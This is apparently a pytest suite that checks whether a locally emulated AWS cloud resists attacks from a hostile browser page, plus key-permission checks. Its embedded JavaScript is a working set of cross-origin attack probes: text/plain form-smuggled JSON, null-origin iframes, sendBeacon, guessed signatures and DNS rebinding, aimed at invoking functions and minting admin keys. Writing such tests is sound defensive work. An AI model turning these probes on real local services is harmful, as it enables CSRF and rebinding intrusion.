"""Another page in the developer's browser can neither change nor read anything of the laptop cloud: tried in
Chromium."""

import json
import subprocess
import threading
import urllib.parse
from pathlib import Path
from typing import Any

import boto3
import httpx
import pytest
from botocore.exceptions import ClientError
from ulid import ULID

from tests.e2e.test_example import chromium as chromium  # a fixture
from tests.e2e.test_example import running
from tests.fakes.loopback import QuietHandler, serve_handler
from tests.laptop_cloud import LaptopCloud

INVOKE = "/2015-03-31/functions/rlaas-local-bootstrap/invocations"
REBOUND = "rebound.example"
"""A name of the page's owner that leads to the loopback, as after DNS rebinding."""
SCRIPT = """
const { clouds, api, invoke, tenant } = JSON.parse(document.getElementById("aim").textContent);
const readable = [], opened = [];
const key = JSON.stringify({ tenant_id: tenant, scopes: ["infer", "telemetry", "admin", "platform"] });
const newFunction = JSON.stringify({ FunctionName: tenant, Runtime: "python3.11", Handler: "x.y", Role: "arn:aws:iam::000000000000:role/x",
                                     Code: { ZipFile: "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==" } });
const guess = "AWS4-HMAC-SHA256 Credential=000000000000/20261127/us-east-1/lambda/aws4_request, SignedHeaders=host, Signature=00";
// An answer that the browser takes for a download ends no frame.
const soon = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 5000))]);

async function read(what, url, init) {
  try {
    const answer = await fetch(url, init);
    if (answer.type !== "opaque") readable.push(`${what}: ${answer.status} ${await answer.text()}`);
  } catch {}
}

function socket(url) {
  return new Promise((done) => {
    const one = new WebSocket(url);
    one.onopen = () => { opened.push(url); done(); };
    one.onerror = done;
  });
}

function form(url, body) {
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.name = `frame${Math.random()}`;
  const sent = document.body.appendChild(document.createElement("form"));
  Object.assign(sent, { method: "post", action: url, enctype: "text/plain", target: frame.name });
  const field = sent.appendChild(document.createElement("input")); // text/plain makes {"a":"=","tenant_id":...} of name and value
  field.name = body.replace("{", '{"a":"');
  field.value = '"' + body.slice(1);
  return new Promise((done) => { frame.onload = done; sent.submit(); });
}

function nameless(url, body) { // the page in such a frame has the origin `null`
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, { method: "POST", mode: "no-cors", body: ${JSON.stringify(body)} })
    .finally(() => parent.postMessage("", "*"))</` + "script>";
  return new Promise((done) => {
    addEventListener("message", (message) => message.source === frame.contentWindow && done());
    document.body.append(frame);
  });
}

const probes = [];
for (const cloud of clouds) {
  for (const [path, body] of [[invoke, key], ["/2015-03-31/functions", newFunction], ["/_ministack/reset", ""], ["//" + invoke, key]]) {
    probes.push(read("plain POST", cloud + path, { method: "POST", body }));
    probes.push(read("POST no-cors", cloud + path, { method: "POST", mode: "no-cors", body }));
    probes.push(read("JSON", cloud + path, { method: "POST", body, headers: { "Content-Type": "application/json" } }));
    probes.push(read("signed by guess", cloud + path, { method: "POST", body, headers: { Authorization: guess } }));
    navigator.sendBeacon(cloud + path, body);
    probes.push(soon(nameless(cloud + path, body)));
    if (body) probes.push(soon(form(cloud + path, body)));
  }
  for (const path of ["/", "/_ministack/health", "/_ministack/sqs/messages", "/rlaas-local-artifacts-000000000000-us-east-1"]) {
    probes.push(read("GET", cloud + path));
    probes.push(read("target", cloud + path, { method: "POST", body: "{}", headers: { "X-Amz-Target": "DynamoDB_20120810.ListTables" } }));
    const image = new Image();
    probes.push(soon(new Promise((done) => { image.onload = image.onerror = done; image.src = cloud + path; })));
  }
  probes.push(soon(socket(cloud.replace("http", "ws") + "/_aws/execute-api/x/y")));
}
await Promise.all(probes);
const answer = await fetch(`${api}/v1/feedback.submit`, { method: "POST", body: "{}", headers: { Authorization: "Bearer none" } })
  .catch(() => ({ status: "nothing" }));
await fetch("/done", { method: "POST", body: JSON.stringify({ readable, opened, api: answer.status }) });
"""


class Page(QuietHandler):
    """The page, and the server that it reports to."""

    aim: dict[str, Any]
    report: dict[str, Any]
    done: threading.Event

    def do_GET(self) -> None:
        text = f'<body><script type="application/json" id="aim">{json.dumps(self.aim)}</script><script type="module">{SCRIPT}</script>'
        self.answer(200, text.encode(), {"Content-Type": "text/html"})

    def do_POST(self) -> None:
        self.report.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.answer(200, b"")
        self.done.set()


def test_a_page_of_another_origin_invokes_nothing_and_reads_nothing(chromium: str, cloud: LaptopCloud, tmp_path: Path) -> None:
    port = urllib.parse.urlsplit(cloud.endpoint).port
    tenant_id = f"t-{str(ULID()).lower()[-12:]}"
    clouds = [f"http://{host}:{port}" for host in ("127.0.0.1", "localhost", REBOUND)]
    aim = {"clouds": clouds, "api": cloud.api_url.rstrip("/"), "invoke": INVOKE, "tenant": tenant_id}
    page = type("Aimed", (Page,), {"aim": aim, "report": {}, "done": threading.Event()})
    flags = [
        "--headless=new",
        "--no-sandbox",
        "--no-first-run",
        f"--user-data-dir={tmp_path}",
        "--host-resolver-rules=MAP *.example 127.0.0.1",
    ]
    with serve_handler(page) as url:
        address = url.replace("127.0.0.1", "evil.example")
        with running([chromium, *flags, f"--user-data-dir={tmp_path}", address], stderr=subprocess.DEVNULL):
            assert page.done.wait(90), "the page did not finish"
    assert page.report == {"readable": [], "opened": [], "api": 401}  # the deployed API is for every page, and asks for its own key

    [registry] = [name for name in cloud.client("dynamodb").list_tables()["TableNames"] if name.endswith("registry")]
    assert tenant_id not in json.dumps(cloud.client("dynamodb").scan(TableName=registry)["Items"])
    assert tenant_id not in [function["FunctionName"] for function in cloud.client("lambda").list_functions()["Functions"]]


def test_the_key_is_this_users_alone_and_of_this_run(cloud: LaptopCloud) -> None:
    run, access = cloud.state / "run", cloud.running
    for file in ("cloud.json", "aws.env"):
        assert (run / file).stat().st_mode & 0o777 == 0o600
        assert access.secret_access_key in (run / file).read_text()
    for log in (cloud.state / "logs").rglob("*"):
        assert not log.is_file() or access.secret_access_key not in log.read_text(errors="replace"), log
    assert access.secret_access_key not in repr(access)
    output = subprocess.run(
        ["bash", "-euc", f". {run}/aws.env; env"], env={"PATH": "/usr/bin:/bin"}, capture_output=True, text=True, check=True
    ).stdout
    assert {f"{name}={value}" for name, value in access.environment().items()} <= set(output.splitlines())


def test_no_program_speaks_to_the_cloud_without_its_key(cloud: LaptopCloud) -> None:
    body = json.dumps({"tenant_id": "acme", "scopes": ["platform"]})
    assert httpx.post(cloud.endpoint + INVOKE, content=body).status_code == 403
    client = boto3.Session("000000000000", "local", None, "us-east-1").client("lambda", endpoint_url=cloud.endpoint)
    with pytest.raises(ClientError) as error:
        client.invoke(FunctionName="rlaas-local-bootstrap", Payload=body)
    assert error.value.response["Error"]["Code"] == "UnrecognizedClientException"
